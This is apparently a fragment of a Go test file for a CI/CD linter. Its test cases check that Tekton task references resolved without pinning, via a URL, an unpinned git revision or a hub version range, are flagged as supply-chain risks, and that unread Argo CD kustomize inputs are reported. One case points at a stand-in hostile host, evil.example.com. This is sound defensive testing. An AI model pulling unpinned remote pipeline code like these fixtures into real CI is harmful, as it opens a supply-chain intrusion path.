		"http": "{resolver: http, params: [{name: url, value: https://evil.example.com/t.yaml}]}", "git without a revision": "{resolver: git, params: [{name: url, value: https://github.com/a/b}, {name: pathInRepo, value: t.yaml}]}",
		"a branch like a version": "{resolver: git, params: [{name: url, value: https://github.com/a/b}, {name: revision, value: 1.2-main}, {name: pathInRepo, value: t.yaml}]}",
		"a range of versions":     "{resolver: hub, params: [{name: name, value: bad}, {name: kind, value: task}, {name: version, value: '>= 0.0.1'}]}",
	} {
		all = append(all, trial{kind: "fetch", name: name, files: map[string]string{".tekton/push.yaml": run("", "pipelineSpec: {tasks: [{name: t, taskRef: "+ref+"}]}")}, args: []string{"check", "."}, exit: -1, wants: []string{"supply-chain/floating-resolver"}})
	}
	const application = "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: a, namespace: argocd}\nspec:\n  project: ci\n  destination: {server: https://kubernetes.default.svc, namespace: ci}\n  source: {repoURL: https://github.com/example/platform, targetRevision: v1.0.0, path: app, kustomize: {%s: []}}\n"
	return append(all,
		trial{kind: "fetch", name: "a file of another ending", files: map[string]string{".tekton/push.yaml": run("    pipelinesascode.tekton.dev/task: ci/bad.txt\n", task), "ci/bad.txt": "x"}, args: []string{"check", "."}, exit: -1, wants: []string{"input/not-read", "ci/bad.txt"}, never: []string{"graph/task-not-found"}},
		trial{kind: "fetch", name: "a pinned one is none", files: map[string]string{".tekton/push.yaml": run("    pipelinesascode.tekton.dev/task: https://raw.githubusercontent.com/a/b/0123456789012345678901234567890123456789/t.yaml\n", task)}, args: []string{"check", "."}, exit: 0, never: []string{"supply-chain/floating-resolver"}},
		trial{kind: "fetch", name: "patches of an Application", files: map[string]string{"a.yaml": fmt.Sprintf(application, "patches")}, args: []string{"check", "."}, exit: -1, wants: []string{"input/not-read"}},
		trial{kind: "fetch", name: "components of an Application", files: map[string]string{"a.yaml": fmt.Sprintf(application, "components")}, args: []string{"check", "."}, exit: -1, wants: []string{"input/not-read"}},
	)
}
